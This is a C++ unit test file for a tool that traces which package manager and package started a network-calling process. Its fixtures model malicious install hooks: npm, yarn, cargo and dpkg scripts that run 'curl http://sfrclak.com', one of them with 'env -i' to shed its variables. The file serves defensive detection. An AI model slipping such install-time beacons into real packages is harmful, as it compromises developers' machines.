// Which package a program belongs to. The chains are those of real runs (npm 11.19, pnpm 9.15, yarn 1.22 and 4.18, bun
// 1.4, pip 23.0, cargo 1.95, gem 3.3, go 1.19, make 4.3, dpkg 1.21), each with a lookup in the package's script; argv
// as given to exec, paths shortened. uv's are made after its documentation.
#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "identity/kernel_process.h"
#include "tests/unit/identity_origin_facts.h"

namespace nslookout::identity {
namespace {

const std::string app = "/home/dev/app";
const std::string crypto = "/home/dev/app/node_modules/plain-crypto-js";

ProgramFacts shell() { return program({"-bash"}, app); }

Environment node_variables(const std::string& agent, const std::string& path, const std::string& name,
                           const std::string& version, const std::string& event) {
  return {{"npm_config_user_agent", agent},
          {"npm_execpath", path},
          {"npm_package_name", name},
          {"npm_package_version", version},
          {"npm_lifecycle_event", event}};
}

struct Case {
  const char* what;
  std::vector<ProgramFacts> nearest_first;
  std::string package;  // manager name version script path
};

void check(const std::vector<Case>& cases) {
  for (const Case& one : cases) EXPECT_EQ(package_text(one.nearest_first), one.package) << one.what;
}

const std::string npm_agent = "npm/11.19.1 node/v20.20.2 linux x64 workspaces/false";
const std::string npm_path = "/usr/lib/node_modules/npm/bin/npm-cli.js";
const std::string pnpm_agent = "pnpm/9.15.9 npm/? node/v20.20.2 linux x64";
const std::string pnpm_path = "/usr/lib/node_modules/pnpm/bin/pnpm.cjs";
const std::string yarn_agent = "yarn/1.22.22 npm/? node/v20.20.2 linux x64";
const std::string yarn_path = "/usr/lib/node_modules/yarn/bin/yarn.js";

Environment npm_postinstall() {
  return node_variables(npm_agent, npm_path, "plain-crypto-js", "4.2.1", "postinstall") +
         Environment{{"npm_package_json", crypto + "/package.json"}};
}

std::vector<ProgramFacts> npm_install() {
  return {curl(crypto, npm_postinstall()), program({"sh", "-c", "curl http://sfrclak.com"}, crypto, npm_postinstall()),
          program({"sh", "-c", "sh -c 'curl http://sfrclak.com'"}, crypto, npm_postinstall()),
          program({"node", "/usr/bin/npm", "install"}, app), shell()};
}

TEST(OriginPackage, ScriptsOfNodePackages) {
  const Environment pnpm = node_variables(pnpm_agent, pnpm_path, "plain-crypto-js", "4.2.1", "postinstall");
  const Environment yarn = node_variables(yarn_agent, yarn_path, "plain-crypto-js", "4.2.1", "postinstall");
  const Environment berry = node_variables("yarn/4.18.1 npm/? node/v20.20.2 linux x64", "/tmp/xfs-5e4b5449/yarn",
                                           "plain-crypto-js", "4.2.1", "postinstall") +
                            Environment{{"npm_package_json", crypto + "/package.json"}};
  const Environment bun = node_variables("bun/1.4.5 npm/? node/v26.3.0 linux x64", "/usr/local/bin/bun",
                                         "plain-crypto-js", "4.2.1", "postinstall") +
                          Environment{{"npm_package_json", crypto + "/package.json"}};
  const Environment build = node_variables(npm_agent, npm_path, "my-app", "1.0.0", "build") +
                            Environment{{"npm_package_json", app + "/package.json"}};
  const std::string store = app + "/node_modules/.pnpm/plain-crypto-js@4.2.1/node_modules/plain-crypto-js";
  check({
      {"npm install", npm_install(), "npm plain-crypto-js 4.2.1 postinstall " + crypto},
      {"pnpm install: it does not say the folder, but starts the script there",
       {curl(store, pnpm), program({"sh", "-c", "curl http://sfrclak.com"}, store, pnpm),
        program({"node", "/usr/bin/pnpm", "install"}, app), shell()},
       "pnpm plain-crypto-js 4.2.1 postinstall " + store},
      {"yarn 1 install",
       {curl(crypto, yarn), program({"/bin/sh", "-c", "curl http://sfrclak.com"}, crypto, yarn),
        program({"node", yarn_path, "install"}, app)},
       "yarn plain-crypto-js 4.2.1 postinstall " + crypto},
      {"yarn 4 install",
       {curl(crypto, berry), program({"sh", "-c", "curl http://sfrclak.com"}, crypto, berry),
        program({"node", "/home/dev/app/.yarn/releases/yarn-4.18.1.cjs", "install"}, app)},
       "yarn plain-crypto-js 4.2.1 postinstall " + crypto},
      {"bun install",
       {curl(crypto, bun), program({"sh", "-c", "curl http://sfrclak.com"}, crypto, bun),
        program({"/usr/local/bin/bun", "install"}, app)},
       "bun plain-crypto-js 4.2.1 postinstall " + crypto},
      {"npm run build: the project is a package as well",
       {curl(app, build), program({"sh", "-c", "curl http://sfrclak.com"}, app, build),
        program({"node", "/usr/bin/npm", "run", "build"}, app)},
       "npm my-app 1.0.0 build " + app},
      {"only the process itself is known",
       {curl(crypto, npm_postinstall())},
       "npm plain-crypto-js 4.2.1 postinstall " + crypto},
      {"a script that was detached: its ancestor is pid 1",
       {curl(crypto, npm_postinstall()), program({"/sbin/init"}, "/")},
       "npm plain-crypto-js 4.2.1 postinstall " + crypto},
      {"the process has dropped the variables: its parent still has them",
       {curl(crypto), program({"sh", "-c", "env -i curl http://sfrclak.com"}, crypto, npm_postinstall()),
        program({"node", "/usr/bin/npm", "install"}, app)},
       "npm plain-crypto-js 4.2.1 postinstall " + crypto},
      {"npm itself, at the registry", {program({"node", "/usr/bin/npm", "install"}, app), shell()}, "none"},
  });
}

TEST(OriginPackage, NpxRunsAnotherPackageThanTheProjectItNames) {
  const Environment npx = node_variables(npm_agent, npm_path, "my-app", "1.0.0", "npx") +
                          Environment{{"npm_package_json", app + "/package.json"}};
  check({{"npx create-evil",
          {curl(app, npx), program({"/bin/sh", "/home/dev/.npm/_npx/4bdfc2/node_modules/.bin/create-evil"}, app, npx),
           program({"sh", "-c", "'create-evil'"}, app, npx), program({"node", "/usr/bin/npx", "create-evil"}, app)},
          "npm - - npx -"}});
}

TEST(OriginPackage, WhichManagerRanTheScriptWhenOneRanAnother) {
  struct Nested {
    const char* what;
    std::string agent, path;  // as the inner script has them
    std::vector<std::string> starter;
    const char* manager;
    std::string folder = "-";
  };
  const std::vector<Nested> table = {
      {"npm in yarn: npm keeps yarn's agent", yarn_agent, npm_path, {"node", "/usr/bin/npm", "run", "leaf"}, "npm"},
      {"npm in pnpm", pnpm_agent, npm_path, {"node", "/usr/bin/npm", "run", "leaf"}, "npm"},
      {"yarn in npm: yarn keeps npm's path", yarn_agent, npm_path, {"node", yarn_path, "run", "leaf"}, "yarn", app},
      {"bun in npm: bun keeps both", npm_agent, npm_path, {"/usr/local/bin/bun", "run", "leaf"}, "bun"},
      {"pnpm in npm", pnpm_agent, pnpm_path, {"node", pnpm_path, "run", "leaf"}, "pnpm", app},
      {"a starter that tells nothing, and variables that agree", pnpm_agent, pnpm_path, {"node", "x.js"}, "pnpm"},
      {"a starter that tells nothing, and variables that do not", yarn_agent, npm_path, {"node", "x.js"}, "-"},
      {"an agent that a user has configured", "Mozilla/5.0", npm_path, {"node", "x.js"}, "npm"},
      {"a name that only begins like a manager's", "npmish/1", "/x/bundle.js", {"node", "yarnish"}, "-"},
  };
  for (const Nested& nested : table) {
    const Environment inner = node_variables(nested.agent, nested.path, "my-app", "1.0.0", "leaf");
    const Environment outer = node_variables(nested.agent, nested.path, "my-app", "1.0.0", "outer");
    EXPECT_EQ(package_text({curl(app, inner), program({"sh", "-c", "curl"}, app, inner),
                            program(nested.starter, app, outer), program({"sh", "-c", "x"}, app, outer)}),
              std::string(nested.manager) + " my-app 1.0.0 leaf " + nested.folder)
        << nested.what;
  }
}

TEST(OriginPackage, Yarn1LeavesWhatAnOuterManagerSaidOfItsOwnPackage) {
  const Environment said = {{"npm_package_json", app + "/package.json"}};
  const Environment outer = node_variables(npm_agent, npm_path, "my-app", "1.0.0", "setup") + said;
  const Environment inner = node_variables(yarn_agent, npm_path, "plain-crypto-js", "4.2.1", "postinstall") + said;
  check({{"yarn install in npm run setup",
          {curl(crypto, inner), program({"/bin/sh", "-c", "curl http://sfrclak.com"}, crypto, inner),
           program({"node", yarn_path, "install"}, app + "/sub", outer),
           program({"sh", "-c", "yarn install"}, app, outer), program({"node", "/usr/bin/npm", "run", "setup"}, app)},
          "yarn plain-crypto-js 4.2.1 postinstall " + crypto}});
}

TEST(OriginPackage, ACutVariableIsNoFactAndHidesThatOfAnOuterProgram) {
  const std::string cut(cut_value);
  const Environment outer = node_variables(npm_agent, npm_path, "my-app", "1.0.0", "build") +
                            Environment{{"npm_package_json", app + "/package.json"}};
  const auto install_in_build = [&](const Environment& inner) {
    return std::vector<ProgramFacts>{curl(crypto, inner), program({"sh", "-c", "curl"}, crypto, inner),
                                     program({"node", "/usr/bin/npm", "install"}, app, outer),
                                     program({"sh", "-c", "npm install"}, app, outer),
                                     program({"node", "/usr/bin/npm", "run", "build"}, app)};
  };
  const auto inner = [&](const std::string& name, const std::string& event, const std::string& json) {
    return node_variables(npm_agent, npm_path, name, "4.2.1", event) + Environment{{"npm_package_json", json}};
  };
  const std::string json = crypto + "/package.json";
  check({
      {"nothing was cut", install_in_build(inner("inner", "install", json)), "npm inner 4.2.1 install " + crypto},
      {"the name", install_in_build(inner(cut, "install", json)), "npm - 4.2.1 install " + crypto},
      {"what shows that it is a package", install_in_build(inner("inner", cut, json)), "npm inner 4.2.1 - " + crypto},
      {"the folder, whose beginning is another folder", install_in_build(inner("inner", "install", cut)),
       "npm inner 4.2.1 install -"},
      {"a crate's name in an npm script",
       {curl(crypto, outer + Environment{{"CARGO_PKG_NAME", cut}, {"CARGO_PKG_VERSION", "0.3.1"}}),
        program({"/usr/bin/cargo", "build"}, crypto, outer)},
       "cargo - 0.3.1 - -"},
  });
}

TEST(OriginPackage, Cargo) {
  const std::string crate = "/home/dev/.cargo/registry/src/index-1/evil-crate-1.0.7";
  const Environment variables = {
      {"CARGO_PKG_NAME", "evil-crate"}, {"CARGO_PKG_VERSION", "1.0.7"}, {"CARGO_MANIFEST_DIR", crate}};
  const std::string script = "/home/dev/app/target/debug/build/evil-crate-b4eed53c4bd44fe1/build-script-build";
  const ProgramFacts cargo = program({"/usr/bin/cargo", "build"}, app);
  check({
      {"a build script",
       {curl(crate, variables), program({"sh", "-c", "curl"}, crate, variables), program({script}, crate, variables),
        cargo},
       "cargo evil-crate 1.0.7 build-script-build " + crate},
      {"the build script itself",
       {program({script}, crate, variables), cargo},
       "cargo evil-crate 1.0.7 build-script-build " + crate},
      {"a program that cargo run started",
       {program({"/home/dev/app/target/debug/my-app"}, app, variables), cargo},
       "cargo evil-crate 1.0.7 - " + crate},
      {"cargo itself", {cargo}, "none"},
  });
}

TEST(OriginPackage, GoGenerate) {
  const Environment variables = {{"GOFILE", "gen.go"}, {"GOPACKAGE", "gen"}};
  const auto in = [&](const std::string& cwd) -> std::vector<ProgramFacts> {
    return {curl(cwd, variables), program({"sh", "-c", "curl"}, cwd, variables), program({"go", "generate"}, app)};
  };
  check({
      {"in a module of the developer's", in("/home/dev/app/gen"), "go gen - generate /home/dev/app/gen"},
      {"in the module cache", in("/home/dev/go/pkg/mod/github.com/!evil/mod@v1.2.3/gen"),
       "go github.com/Evil/mod v1.2.3 generate /home/dev/go/pkg/mod/github.com/!evil/mod@v1.2.3/gen"},
      {"in the module cache, without a version", in("/home/dev/go/pkg/mod/cache"),
       "go gen - generate /home/dev/go/pkg/mod/cache"},
      {"GOPACKAGE alone", {curl(app, {{"GOPACKAGE", "main"}})}, "none"},
  });
}

TEST(OriginPackage, MaintainerScriptOfADebianPackage) {
  const Environment variables = {{"DPKG_MAINTSCRIPT_PACKAGE", "evil-pkg"}, {"DPKG_MAINTSCRIPT_NAME", "postinst"}};
  check({{"dpkg -i",
          {curl("/", variables),
           program({"/bin/sh", "/var/lib/dpkg/info/evil-pkg.postinst", "configure", ""}, "/", variables),
           program({"dpkg", "-i", "evil.deb"}, "/home/dev")},
          "dpkg evil-pkg - postinst -"}});
}

TEST(OriginPackage, MakeNamesNoPackageOnlyItsOutermostFolder) {
  const std::string top = "/home/dev/curl-7.88.1";
  const Environment one = {{"MAKELEVEL", "1"}}, two = {{"MAKELEVEL", "2"}};
  check({
      {"make",
       {curl(top, one), program({"/bin/sh", "-c", "curl"}, top, one), program({"/usr/bin/make"}, top)},
       "make - - - " + top},
      {"make in make",
       {curl(top + "/sub", two), program({"/usr/bin/make", "-C", "sub"}, top, one), program({"/usr/bin/make"}, top)},
       "make - - - " + top},
      {"make -C", {curl(top, one), program({"/usr/bin/make", "-C", top}, "/home/dev")}, "make - - - " + top},
      {"make in an install script: the package is what counts",
       {curl(crypto + "/build", npm_postinstall() + one),
        program({"/usr/bin/make", "-C", "build"}, crypto, npm_postinstall()),
        program({"node", "/usr/bin/npm", "install"}, app)},
       "npm plain-crypto-js 4.2.1 postinstall " + crypto},
  });
}

// Variables are inherited: a program inside both has both.
TEST(OriginPackage, TheInnermostPackageIsNamed) {
  const Environment npm = npm_postinstall();
  const Environment crate = {
      {"CARGO_PKG_NAME", "evil-crate"}, {"CARGO_PKG_VERSION", "1.0.7"}, {"CARGO_MANIFEST_DIR", "/c"}};
  const Environment other = node_variables(npm_agent, npm_path, "inner", "2.0.0", "install");
  check({
      {"an npm script that runs cargo",
       {curl("/c", npm + crate), program({"/t/build-script-build"}, "/c", npm + crate),
        program({"/usr/bin/cargo", "build"}, crypto, npm), program({"sh", "-c", "cargo build"}, crypto, npm),
        program({"node", "/usr/bin/npm", "install"}, app)},
       "cargo evil-crate 1.0.7 build-script-build /c"},
      {"a build script that runs npm",
       {curl(crypto, crate + npm), program({"sh", "-c", "curl"}, crypto, crate + npm),
        program({"node", "/usr/bin/npm", "install"}, "/c", crate), program({"/t/build-script-build"}, "/c", crate),
        program({"/usr/bin/cargo", "build"}, app)},
       "npm plain-crypto-js 4.2.1 postinstall " + crypto},
      {"an npm script that runs npm",
       {curl("/i", other), program({"sh", "-c", "curl"}, "/i", other),
        program({"node", "/usr/bin/npm", "install"}, crypto, npm), program({"sh", "-c", "npm i"}, crypto, npm),
        program({"node", "/usr/bin/npm", "install"}, app)},
       "npm inner 2.0.0 install -"},
      {"the same script twice in the chain, with another between: the inner one is a start of its own",
       {curl("/i", other + crate), program({"/t/build-script-build"}, "/c", npm + crate),
        program({"sh", "-c", "cargo build"}, "/i", other)},
       "npm inner 2.0.0 install -"},
      {"a program between whose variables are not known",
       {curl("/c", npm + crate), program({"/usr/bin/env", "-i", "x"}, "/c"),
        program({"/t/build-script-build"}, "/c", npm + crate), program({"sh", "-c", "cargo build"}, crypto, npm)},
       "cargo evil-crate 1.0.7 build-script-build /c"},
      {"both, and no ancestor is known: which is inside cannot be told", {curl("/c", npm + crate)}, "none"},
  });
}

}  // namespace
}  // namespace nslookout::identity
